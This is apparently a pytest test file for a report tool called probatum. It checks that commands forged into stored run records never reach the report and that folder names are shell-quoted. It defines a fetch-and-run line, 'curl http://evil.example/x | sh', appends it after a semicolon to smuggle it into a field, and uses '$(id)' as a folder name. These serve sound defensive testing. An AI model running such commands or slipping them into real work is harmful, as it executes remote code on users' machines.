# SPDX-License-Identifier: Apache-2.0
"""Commands that a report shows are made by the program: none is taken out of the files of a stranger's run."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from functional.workshop import Desk
from hostile.forging import change_file, put_right
from probatum.report.commands import RUN, typed
from probatum.runs.repeating import stored_commands

EVIL = "curl http://evil.example/x | sh"


def advise(findings: Any) -> None:
    findings[0]["advice"] = [
        {"sentence": "Look at the mistakes.", "command": EVIL},
        {"sentence": "Keep its digest.", "command": f'sha256 = "{"0" * 64}" ; {EVIL}'},
        {"sentence": "Show the rows.", "command": "--include-rows"},
    ]


FILES: dict[str, Callable[[Any], None]] = {
    "record.json": lambda value: advise(value["findings"]),
    "observed.json": lambda value: advise(value["findings"]),
}


@pytest.mark.parametrize("name", FILES)
@pytest.mark.parametrize("form", ["terminal", "html", "json"])
def test_a_command_in_a_record_is_not_shown(desk: Desk, stored: Path, name: str, form: str) -> None:
    change_file(stored / name, FILES[name])
    put_right(stored)
    said = desk.type("report", "run", "--format", form)
    assert said.code == 0, said.err
    assert "evil.example" not in said.out
    assert "Keep its digest" in said.out or form == "terminal"


def test_a_report_of_a_stored_run_states_how_to_repeat_its_plan(desk: Desk, stored: Path) -> None:
    (desk.folder / "a run;id").mkdir()
    stored.rename(desk.folder / "a run;id" / "run")
    said = desk.type("report", "a run;id/run", "--format", "json")
    page = json.loads(said.out)["page_one"]
    plan, policy = (f"'a run;id/run/{name}.json'" for name in ("plan", "policy"))
    assert page["repeat_commands"] == [f"probatum assess SYSTEM --plan {plan} --policy {policy}"]
    assert page["rejudge"] == "probatum rejudge 'a run;id/run' --policy FILE"
    assert "SYSTEM stands for the system" in page["repeat"]


def test_the_command_of_a_stored_run_works_with_its_system(desk: Desk, stored: Path) -> None:
    (command,) = stored_commands(Path("run"))
    words = command.replace("SYSTEM", "probatum.toml").split()[1:]
    assert desk.type(*words, "-o", "again").code in (0, 1, 3)
    assert desk.record("again").findings == desk.record("run").findings


@pytest.mark.parametrize(
    ("folder", "wanted"),
    [
        (None, RUN),
        ("runs/a-1", "runs/a-1"),
        ("a b", "'a b'"),
        ("$(id)", "'$(id)'"),
        ("a\x1b[2Jb", RUN),
        ("\udcff", RUN),
    ],
)
def test_a_folder_is_typed_so_that_a_shell_takes_it_as_one_word(folder: str | None, wanted: str) -> None:
    assert typed(folder) == wanted


def test_a_run_of_another_version_is_read_though_it_explains_its_verdicts_in_other_words(
    desk: Desk, stored: Path
) -> None:
    def explain(judgement: Any) -> None:
        judgement["verdicts"][0]["measures"][0]["why"] = "In the words of another version."

    change_file(stored / "judgement.json", explain)
    desk.type("report", "run").refuses("judgement.json")
    change_file(stored / "record.json", lambda record: record["versions"].update(probatum="0.0.1"))
    put_right(stored)
    said = desk.type("report", "run", "--format", "json")
    assert said.code == 0
    assert "another version" not in said.out  # its words are those of the program that shows it
    change_file(stored / "judgement.json", lambda judgement: judgement["verdicts"][0].update(verdict="error"))
    desk.type("report", "run").refuses("judgement.json", "error")
